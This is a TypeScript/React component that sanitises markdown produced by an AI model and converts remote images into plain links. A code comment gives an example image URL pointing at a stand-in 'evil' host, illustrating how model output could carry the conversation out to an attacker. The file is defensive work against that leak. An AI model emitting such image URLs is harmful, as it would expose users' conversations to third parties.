// Markdown from the model (or an artifact) rendered as sanitised HTML: marked parses it,
// DOMPurify removes scripts, handlers and anything else that could run in the page.

import DOMPurify from "dompurify";
import { marked } from "marked";

DOMPurify.addHook("afterSanitizeAttributes", (node) => {
  if (node.tagName === "A") {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer");
  }
});

/** An image whose bytes are already in the page (data:, blob:) or come from this origin (a
 * relative URL; `//host` and `\\host` name another host). */
const localImage = (src: string) =>
  /^(data:|blob:)/i.test(src.trim()) || !(/^[a-z][a-z0-9+.-]*:/i.test(src.trim()) || /^\s*[\\/]{2}/.test(src));

export function renderMarkdown(text: string): string {
  const html = marked.parse(text, { async: false, gfm: true, breaks: true }) as string;
  const fragment = DOMPurify.sanitize(html, { RETURN_DOM_FRAGMENT: true });
  // A remote image is fetched as soon as it is shown, and its URL can carry the conversation
  // out (`![](https://evil/?q=...)`): it becomes a link the user may follow, never a request.
  for (const image of Array.from(fragment.querySelectorAll("img"))) {
    const src = image.getAttribute("src") ?? "";
    if (localImage(src)) continue;
    const link = document.createElement("a");
    link.href = src;
    link.textContent = image.getAttribute("alt") || src;
    link.target = "_blank";
    link.rel = "noopener noreferrer";
    image.replaceWith(link);
  }
  const holder = document.createElement("div");
  holder.append(fragment);
  return holder.innerHTML;
}

export function Markdown({ text, className }: { text: string; className?: string }) {
  return <div className={`markdown ${className ?? ""}`} dangerouslySetInnerHTML={{ __html: renderMarkdown(text) }} />;
}
